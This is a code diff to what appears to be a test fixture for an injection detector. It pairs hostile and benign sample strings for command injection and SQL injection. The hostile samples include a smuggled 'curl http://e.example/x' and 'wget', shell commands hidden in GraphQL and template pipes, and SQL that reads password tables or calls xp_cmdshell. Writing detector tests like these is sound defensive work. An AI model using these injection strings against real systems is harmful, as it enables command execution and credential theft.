@@ -60,6 +60,8 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       'a.b&reboot&c.d do |id|',
       'my_x | sh do |id|',
       'a_b > x do |sh|',
+      'a.b do |id|\nend\nwhoami',
+      'a.b do |id|\nend\ncurl http://e.example/x',
     ],
     honest: [
       'config.around(:each) do |ex|',
@@ -95,10 +97,46 @@ const DECISIONS: Readonly<Record<string, Decision>> = {
       '  mv := w.valPop()',
     ],
   },
-  'a sum behind a pipe, where something is set (CWE-78)': {
-    hostile: ['set whoami; $1', 'set id|$1', 'set x; set -- id; $@', 'set a id;$1$2'],
+  'fields of GraphQL’s and filters of Go’s (CWE-78)': {
+    hostile: [
+      '{\nenv\nset\n}',
+      '{\nid\nhostname\n}',
+      '{\nsh\nx\n}',
+      '{\nkubectl\nid\n}',
+      'x|md5sum }} >index.php',
+      'x|md5sum }} `wget x`',
+      'x | sha256sum | `id`',
+      '1 | date "010112002030" | x',
+    ],
+    honest: ['{\nid\nname\n}', '{{ .Data | sha256sum }}', '{{ .Time | date "2006-01-02" }}'],
+  },
+  'a query of SPARQL’s whose head is quoted away, and a word that compares (CWE-89)': {
+    hostile: [
+      'select id [ as ?x {] from items union all select password from users',
+      'select name [ as ?x {], sql from sqlite_master',
+      'select $$ as ?x {$$, usename, passwd from pg_shadow',
+      'SELECT 1 [ as ?x {] EXEC master.dbo.xp_cmdshell [net user]',
+      "a:'like'",
+      'a:"rlike"',
+    ],
     honest: [
-      'Amounts are set below.\n\n| Team | $1,850 |\n| Guest | $1.50 |\n',
+      'SELECT (COUNT(*) AS ?n) { ?s ?p ?o }',
+      'SELECT (COUNT(*) AS ?n) { { ?s a ?t } UNION { ?s ?p ?t } }',
+      'state:"OR"',
+      "Teachers' union from Chicago and firemen",
+      "the workers' union from Ohio",
+    ],
+  },
+  'a sum behind a pipe, where something is set (CWE-78)': {
+    hostile: [
+      'set whoami; $1',
+      'set id|$1',
+      'set x; set -- id; $@',
+      'set a id;$1$2',
+      '1;set python3;$1.11 /tmp/x.py',
+    ],
+    honest: [
+      'Amounts are set below.\n\n| Team | $1,850 |\n| Guest | $1,050 |\n',
       'we set Company-wide | $1,000 and Team | $1,850',
     ],
   },
